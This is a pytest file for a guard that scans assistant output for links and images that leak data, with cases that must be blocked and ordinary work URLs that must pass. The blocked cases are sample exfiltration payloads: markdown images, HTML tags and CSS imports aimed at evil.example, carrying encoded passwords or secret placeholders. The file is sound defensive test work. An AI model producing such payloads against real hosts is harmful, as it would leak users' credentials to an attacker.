"""Addresses that carry data away, and the long addresses of ordinary work."""

from __future__ import annotations

import base64

import pytest

from helmward.core.settings_guard import GuardSettings
from helmward.guard.contract import About
from helmward.guard.guards.leakage import Leakage
from helmward.guard.pipeline import Guards

GUARDS = Guards([Leakage(GuardSettings(allowed_link_hosts=("*.corp.example", "wiki.example")))])
DATA = base64.urlsafe_b64encode(b"user=admin password=correct horse").decode()
HEX = b"password=correct horse battery".hex()


def rules(text: str) -> set[str]:
    return {hit.rule for hit in GUARDS.check(text, About("assistant")).spans}


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.example/p?d={DATA})",
        f"![x]( <https://evil.example/p?d={DATA}> )",
        f"![a\nb](//evil.example/{HEX}.png)",
        f"![x](https:/\\evil.example/p#{DATA})",
        f"![x](https://{HEX[:40]}.evil.example/a.png)",
        f"![x](https://user:{DATA}@evil.example/a.png)",
        "![x](https://evil.example/a.png?q=the+password+is+swordfish)",
        f'<img alt="x" src="//evil.example/?d={DATA}">',
        f"<iframe src=https://evil.example/{DATA}></iframe>",
        f"<script src='https://evil.example/a.js?v={DATA}'></script>",
        f'<div style="background:url(https://evil.example/?{DATA})">',
        f"@import 'https://evil.example/a.css?d={DATA}';",
        f"![x][1]\n\n[1]: https://evil.example/?d={DATA}",
    ],
)
def test_what_is_fetched_unasked_is_blocked(text: str) -> None:
    assert rules(text) == {"leakage/image-exfiltration"}


@pytest.mark.parametrize(
    "text",
    [
        f"[docs](https://evil.example/p?d={DATA})",
        f"open https://evil.example/collect/{HEX}.",
        "https://evil.example/in?data=the+admin+password+is+swordfish",
        f'<a href="https://evil.example/?d={DATA}">here</a>',
    ],
)
def test_links_with_data_are_blocked(text: str) -> None:
    assert rules(text) == {"leakage/link-exfiltration"}


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/?u=[pii/email:ab12-1]",
        "![x](https://wiki.corp.example/%5Bsecrets%2Fgithub-token%3Aab12-2%5D)",
        '{"url": "https://api.example/v1?token=[secrets/jwt:k3x7-1]"}',
    ],
)
def test_placeholders_leave_in_no_link(text: str) -> None:
    assert rules(text) == {"leakage/placeholder-in-link"}


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://grafana.corp.example/p?d={DATA})",
        f"https://wiki.example/{DATA}",
        "[docs](https://kubernetes.io/docs/tasks/debug/debug-application/debug-running-pod/#ephemeral-container)",
        "https://www.google.com/search?q=how+to+fix+crash+loop+backoff+in+kubernetes",
        "https://prom.example/graph?g0.expr=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))&g0.tab=1",
        "https://github.com/org/repo/commit/0123456789abcdef0123456789abcdef01234567",
        "https://github.com/org/repo/blob/main/internal/controllers/reconcile_deployment_status.go#L120-L188",
        "https://docs.google.com/document/d/1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms/edit",
        "https://0123456789ABCDEF0123456789ABCDEF.gr7.us-east-1.eks.amazonaws.com",
        "![build](https://img.shields.io/badge/build-passing-green?style=flat-square&logo=github)",
        "![d](https://grafana.example/render/d-solo/000000012/cluster?orgId=1&from=now-6h&to=now&panelId=4&width=1000)",
        "![logo](https://raw.githubusercontent.com/kubernetes/kubernetes/master/logo/logo_with_border.png)",
        "![i](https://github.com/user-attachments/assets/3f2b8c1a-9d4e-4f6a-8b2c-1a2b3c4d5e6f)",
        "the image is registry.example/team/app@sha256:" + "ab12" * 16,
        "see [the mask](https://wiki.example/) of [secrets/github-token]",
        "// comment with \\\\server\\share and a//b",
    ],
)
def test_ordinary_addresses_pass(text: str) -> None:
    assert rules(text) == set()


_PLACEHOLDER = "[pii/email:k3x7-1]"


@pytest.mark.parametrize(
    ("text", "blocked"),
    [
        (f"![a](<https://evil.example/?q=a {_PLACEHOLDER}>)", True),
        (f"![a][b]\n\n[b]: <https://evil.example/?q=a {_PLACEHOLDER}>", True),
        (f'<img src="https://evil.example/?q=\n{_PLACEHOLDER}">', True),
        (f'<img src="https://fine.example/a.png" alt="{_PLACEHOLDER}">', False),
        (f"![a](<https://fine.example/a b.png>) {_PLACEHOLDER}", False),
    ],
)
def test_an_address_may_hold_white_space_in_brackets_and_quotes(text: str, blocked: bool) -> None:
    about = About("assistant", placeholders=(_PLACEHOLDER,))
    stream = GUARDS.stream(about)
    for character in text:
        stream.feed(character)
    stream.end()
    assert stream.verdict == GUARDS.check(text, about).verdict == ("block" if blocked else "allow")
